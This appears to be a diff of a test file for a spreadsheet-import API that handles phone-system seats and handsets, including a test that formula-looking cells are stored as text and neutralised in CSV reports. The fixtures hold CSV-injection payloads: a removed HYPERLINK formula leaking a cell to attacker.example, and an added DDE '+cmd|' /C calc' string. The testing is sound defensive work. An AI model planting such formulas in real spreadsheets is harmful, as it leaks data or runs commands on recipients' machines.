@@ -26,7 +26,7 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
   const sales = () => server.auth('sales');
   const url = (path = '') => `${base}/api/v1/acquisitions/${acquisitionId}${path}`;
 
-  const openAcquisition = async () => {
+  const openAcquisition = async (seats = 6) => {
     const created = await server.app.inject({
       method: 'POST',
       url: '/api/v1/acquisitions',
@@ -41,7 +41,7 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
           },
           buildItem({
             id: 'seats',
-            quantity: 6,
+            quantity: seats,
             characteristics: {
               features: ['voicemail'],
               handsetModel: 'Yealink T54W',
@@ -101,7 +101,8 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
 
   describe('reading what customers send', () => {
     beforeAll(async () => {
-      acquisitionId = await openAcquisition();
+      // Room for every user the tests below import: rows past the plan's maximum are refused.
+      acquisitionId = await openAcquisition(12);
     });
 
     it('finds a header on row 3, maps synonyms, skips blank rows, adds + to numbers and reports a duplicate extension by row', async () => {
@@ -212,9 +213,9 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
         await importFile('handsets-three-mac-notations.csv', { match: 'add', mode: 'validate' })
       ).json()) as Job;
       expect(added.unchanged).toBe(0);
-      // Added again, every valid MAC is a duplicate of the handset that already has it.
-      // The first row fills the last unfilled handset of the plan; the others are new records.
-      expect(added).toMatchObject({ created: 4, updated: 1, unchanged: 0 });
+      // Added again, every valid MAC is a duplicate of the handset that already has it: no row
+      // finds its record by key, each fills one of the plan's unfilled handsets instead.
+      expect(added).toMatchObject({ created: 0, updated: 5, unchanged: 0 });
       expect(
         added.findings.filter((f) => f.rule === 'unique' && f.field === 'mac').map((f) => f.row),
       ).toEqual([2, 3, 4, 7]);
@@ -299,9 +300,9 @@ describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
     it('stores formula-looking cells as plain text and neutralises them in the CSV report', async () => {
       const job = (await (await importFile('users-formula-cells.csv')).json()) as Job;
       const users = await records(acquisitionId, 'user');
-      expect(users.map((u) => u.values.firstName)).toContain(
-        '=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")',
-      );
+      expect(users.map((u) => u.values.lastName)).toContain("+cmd|' /C calc'!A0");
+      // The HYPERLINK is longer than a first name may be: its row is refused, yet reported.
+      expect(job.findings).toContainEqual(expect.objectContaining({ row: 2, rule: 'import.row' }));
       const report = await (
         await fetch(url(`/imports/${job.id}/report?format=csv`), { headers: sales() })
       ).text();
